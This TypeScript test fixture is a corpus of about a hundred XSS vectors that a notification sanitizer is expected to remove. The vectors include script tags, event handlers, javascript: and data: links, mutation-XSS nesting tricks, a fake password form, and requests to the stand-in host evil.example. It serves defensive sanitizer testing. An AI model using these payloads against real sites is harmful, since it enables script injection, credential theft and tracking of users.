/** One attack that the author of a notification, or a thief of the author's key, could try. */
export type XssVector = { name: string; html: string };

/**
 * HTML from which no script, style, form, frame, event handler, `javascript:` link or request to a foreign server may survive.
 * Surviving code calls `alert` or requests `evil.example`, so that a browser test can listen for both.
 */
export const xssCorpus: XssVector[] = [
  { name: 'a script', html: '<script>alert(1)</script>' },
  { name: 'a foreign script', html: '<script src="https://evil.example/a.js"></script>' },
  { name: 'a script in capitals', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'a script that is not closed', html: '<p>Текст</p><script>alert(1)' },
  { name: 'a script with a space before its end', html: '<script>alert(1)</script >' },
  { name: 'a script with attributes in its end', html: '<script>alert(1)</script x="y">' },
  { name: 'a script that hides in itself', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'a script with a slash for a space', html: '<script/src="https://evil.example/a.js"></script>' },
  {
    name: 'a script of module type',
    html: '<script type="module">import "https://evil.example/a.js"</script>',
  },
  { name: 'a script behind a byte of nothing', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'a picture that fails', html: '<img src=x onerror=alert(1)>' },
  { name: 'a foreign picture', html: '<img src="https://evil.example/seen.gif">' },
  { name: 'a foreign picture without a protocol', html: '<img src="//evil.example/seen.gif">' },
  { name: 'a foreign picture by srcset', html: '<img srcset="https://evil.example/seen.gif 2x">' },
  { name: 'a picture by its old name', html: '<image src=x onerror=alert(1)>' },
  { name: 'a picture whose quote never ends', html: '<img src="https://evil.example/?a=\n<p>секрет</p>' },
  {
    name: 'a picture that loads lazily',
    html: '<img loading=lazy src=https://evil.example/seen.gif onload=alert(1)>',
  },
  { name: 'a picture with three quotes', html: '<img """><script>alert(1)</script>">' },
  {
    name: 'sources of a picture',
    html: '<picture><source srcset="https://evil.example/seen.webp"><img></picture>',
  },
  { name: 'a click handler', html: '<p onclick="alert(1)">Нажмите</p>' },
  { name: 'a handler of the mouse', html: '<b onmouseover=alert(1)>Наведите</b>' },
  { name: 'a handler behind a slash', html: '<p/onclick=alert(1)>Текст</p>' },
  { name: 'a handler behind a line break', html: '<p\nonclick\n=\nalert(1)>Текст</p>' },
  { name: 'a handler in capitals', html: '<P ONPOINTERENTER="alert(1)">Текст</P>' },
  {
    name: 'a handler of focus that takes it',
    html: '<a href="/x" autofocus tabindex=1 onfocus=alert(1)>Ссылка</a>',
  },
  {
    name: 'a handler of an animation',
    html: '<p style="animation:a 1s" onanimationstart="alert(1)">Текст</p>',
  },
  {
    name: 'a handler of what opens',
    html: '<details open ontoggle=alert(1)><summary>Текст</summary></details>',
  },
  { name: 'a handler of a popover', html: '<b popover id=p onbeforetoggle=alert(1)>Текст</b>' },
  { name: 'a link to javascript', html: '<a href="javascript:alert(1)">Ссылка</a>' },
  { name: 'a link to javascript in mixed case', html: '<a href="JaVaScRiPt:alert(1)">Ссылка</a>' },
  { name: 'a link to javascript with a tab inside', html: '<a href="java\tscript:alert(1)">Ссылка</a>' },
  {
    name: 'a link to javascript with a line break inside',
    html: '<a href="java\nscript:alert(1)">Ссылка</a>',
  },
  { name: 'a link to javascript by entities', html: '<a href="&#106;avascript&#58;alert(1)">Ссылка</a>' },
  {
    name: 'a link to javascript by entities without ends',
    html: '<a href="&#x6A&#x61vascript:alert(1)">Ссылка</a>',
  },
  {
    name: 'a link to javascript by named entities',
    html: '<a href="java&Tab;script&colon;alert(1)">Ссылка</a>',
  },
  {
    name: 'a link to javascript behind a control character',
    html: '<a href="\u0001javascript:alert(1)">Ссылка</a>',
  },
  { name: 'a link to javascript behind spaces', html: '<a href=" \n javascript:alert(1)">Ссылка</a>' },
  {
    name: 'a link to javascript that looks like http',
    html: '<a href="javascript://https://a.example/%0Aalert(1)">Ссылка</a>',
  },
  { name: 'a link to vbscript', html: '<a href="vbscript:msgbox(1)">Ссылка</a>' },
  { name: 'a link to a page of data', html: '<a href="data:text/html,<script>alert(1)</script>">Ссылка</a>' },
  {
    name: 'a link to a page of data in base64',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Ссылка</a>',
  },
  { name: 'a link to a file of the reader', html: '<a href="file:///etc/passwd">Ссылка</a>' },
  { name: 'a link to a blob', html: '<a href="blob:https://evil.example/1">Ссылка</a>' },
  { name: 'a link to the source of a page', html: '<a href="view-source:https://evil.example/">Ссылка</a>' },
  { name: 'a foreign link that looks like a path', html: '<a href="//evil.example/">Ссылка</a>' },
  { name: 'a foreign link by backslashes', html: '<a href="/\\evil.example/">Ссылка</a>' },
  {
    name: 'a link that keeps its hand on the page',
    html: '<a href="https://evil.example/" target="_top" rel="opener">Ссылка</a>',
  },
  {
    name: 'a link that tells when it is followed',
    html: '<a href="/profile" ping="https://evil.example/ping">Ссылка</a>',
  },
  { name: 'a link that downloads', html: '<a href="/rpc" download="rates.exe">Ссылка</a>' },
  { name: 'an area of a map', html: '<map><area href="javascript:alert(1)" shape=default></map>' },
  { name: 'a foreign base', html: '<base href="https://evil.example/"><a href="/profile">Ссылка</a>' },
  { name: 'a page that moves on', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'a foreign style sheet', html: '<link rel="stylesheet" href="https://evil.example/a.css">' },
  { name: 'a foreign hint', html: '<link rel="preload" as="image" href="https://evil.example/seen.gif">' },
  { name: 'a style element', html: '<style>body{background:url(https://evil.example/seen.gif)}</style>' },
  { name: 'a style element that imports', html: '<style>@import "https://evil.example/a.css";</style>' },
  {
    name: 'a style with a foreign picture',
    html: '<p style="background:url(https://evil.example/seen.gif)">Текст</p>',
  },
  {
    name: 'a style that covers the page',
    html: '<p style="position:fixed;inset:0;z-index:9999">Введите пароль</p>',
  },
  { name: 'a style with an expression', html: '<p style="width:expression(alert(1))">Текст</p>' },
  {
    name: 'a form that asks for a password',
    html: '<form action="https://evil.example/"><input name=p type=password><button>Войти</button></form>',
  },
  {
    name: 'a button that changes where a form goes',
    html: '<button formaction="javascript:alert(1)">Нажмите</button>',
  },
  {
    name: 'a field that is a picture',
    html: '<input type=image src="https://evil.example/seen.gif" onerror=alert(1)>',
  },
  { name: 'a list of choices', html: '<select onfocus=alert(1) autofocus><option>Да</select>' },
  {
    name: 'a text field that hides a script',
    html: '<textarea><p title="</textarea><script>alert(1)</script>">',
  },
  { name: 'a button of another form', html: '<b><button type=submit form=sign-in>Нажмите</button></b>' },
  { name: 'a frame', html: '<iframe src="https://evil.example/"></iframe>' },
  { name: 'a frame with its own page', html: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { name: 'a frame with a script for an address', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'an old set of frames', html: '<frameset><frame src="https://evil.example/"></frameset>' },
  { name: 'an object', html: '<object data="https://evil.example/a.swf"></object>' },
  { name: 'an embedded thing', html: '<embed src="javascript:alert(1)">' },
  { name: 'an applet', html: '<applet code="A" archive="https://evil.example/a.jar"></applet>' },
  { name: 'a portal', html: '<portal src="https://evil.example/"></portal>' },
  { name: 'a drawing that runs', html: '<svg onload=alert(1)></svg>' },
  { name: 'a drawing with a script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'a drawing whose script is data',
    html: '<svg><script href="data:text/javascript,alert(1)" /></svg>',
  },
  {
    name: 'a drawing with a link that changes',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Ссылка</text></a></svg>',
  },
  {
    name: 'a drawing with a foreign page inside',
    html: '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
  },
  {
    name: 'a drawing that uses a foreign one',
    html: '<svg><use href="https://evil.example/a.svg#x"></use></svg>',
  },
  {
    name: 'a drawing with a foreign picture',
    html: '<svg><image href="https://evil.example/seen.gif" /></svg>',
  },
  { name: 'a formula with a link', html: '<math><mtext href="javascript:alert(1)">Ссылка</mtext></math>' },
  {
    name: 'a formula that is taken for a drawing later',
    html: '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>--></style></mglyph></table></mtext></math>',
  },
  {
    name: 'a drawing that is taken for text later',
    html: '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></style></svg>',
  },
  {
    name: 'a form in a formula in a form',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></mglyph></form></mtext></math></form>',
  },
  {
    name: 'text without scripts',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'a template', html: '<template><script>alert(1)</script></template>' },
  {
    name: 'a template with a shadow',
    html: '<b><template shadowrootmode=open><img src=x onerror=alert(1)></template></b>',
  },
  { name: 'a title that hides a picture', html: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'old text as it is', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'old text to the end', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'a frame without frames', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'a comment that ends early', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'a comment that ends with a mark', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'a comment of an old browser', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'a section of characters', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { name: 'an instruction', html: '<?xml version="1.0"?><?a <img src=x onerror=alert(1)>?>' },
  { name: 'an end tag with a handler', html: '</p onclick=alert(1)><b>Текст</b>' },
  { name: 'a tag inside a tag', html: '<<b onclick=alert(1)>Текст</b>' },
  {
    name: 'a title of a link that breaks out',
    html: '<a href="/profile" title="&quot; onclick=&quot;alert(1)">Ссылка</a>',
  },
  {
    name: 'a title of a link that ends it',
    html: "<a href='/profile' title='\"><img src=x onerror=alert(1)>'>Ссылка</a>",
  },
  { name: 'markup written as text', html: '&lt;img src=x onerror=alert(1)&gt; и &amp;lt;script&amp;gt;' },
  { name: 'a video', html: '<video src=x onerror=alert(1) poster="https://evil.example/seen.gif"></video>' },
  {
    name: 'a sound that plays',
    html: '<audio src="https://evil.example/a.mp3" autoplay onplay=alert(1)></audio>',
  },
  { name: 'subtitles', html: '<video><track src="https://evil.example/a.vtt" default></video>' },
  { name: 'a running line', html: '<marquee onstart=alert(1)>Текст</marquee>' },
  {
    name: 'a background of a table',
    html: '<table background="https://evil.example/seen.gif"><tr><td>Текст</td></tr></table>',
  },
  {
    name: 'a background of a page',
    html: '<body background="https://evil.example/seen.gif" onload=alert(1)>Текст',
  },
  {
    name: 'a name that covers ours',
    html: '<a id="settings" name="settings" href="/x">Ссылка</a><form id=settings></form>',
  },
  { name: 'an element of its own', html: '<x-a onfocus=alert(1) contenteditable autofocus>Текст</x-a>' },
  {
    name: 'a part that says what it is',
    html: '<b is="x-a" slot="a" part="a" class="mantine-Modal-root">Текст</b>',
  },
  { name: 'letters of full width', html: '＜script＞alert(1)＜/script＞' },
  {
    name: 'a quoted source',
    html: '<blockquote cite="https://evil.example/">Текст</blockquote><q cite="javascript:alert(1)">Текст</q>',
  },
  { name: 'too deep a nest', html: `${'<b>'.repeat(400)}<img src=x onerror=alert(1)>${'</b>'.repeat(400)}` },
];
